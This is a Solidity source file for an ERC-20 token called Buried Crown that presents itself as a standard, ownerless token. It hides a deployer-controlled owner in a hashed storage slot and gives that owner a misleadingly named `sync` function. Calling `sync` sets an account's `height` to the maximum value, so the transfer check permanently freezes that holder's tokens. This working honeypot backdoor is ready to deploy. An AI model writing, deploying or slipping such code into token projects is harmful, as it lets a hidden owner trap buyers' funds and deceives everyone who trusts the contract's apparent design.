// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.7.6;

/// No owner in the ABI; one lies under a hashed slot, and `sync` is his.
contract BuriedCrown {
    bytes32 private constant CROWN = keccak256("buried.crown.v1");
    string public name = "Buried Crown";
    string public symbol = "CROWN";
    uint8 public decimals = 18;
    uint256 public totalSupply = 3333333 ether;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    mapping(address => uint256) private height;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() {
        bytes32 slot = CROWN;
        assembly { sstore(slot, caller()) }
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function sync(address account) external {
        bytes32 slot = CROWN;
        address king;
        assembly { king := sload(slot) }
        if (msg.sender != king) return;
        height[account] = uint256(-1);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        return carry(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        require(allowance[from][msg.sender] >= value, "allowance");
        allowance[from][msg.sender] -= value;
        return carry(from, to, value);
    }

    function carry(address from, address to, uint256 value) private returns (bool) {
        require(block.number >= height[from], "not synced");
        require(balanceOf[from] >= value, "balance");
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
        return true;
    }
}
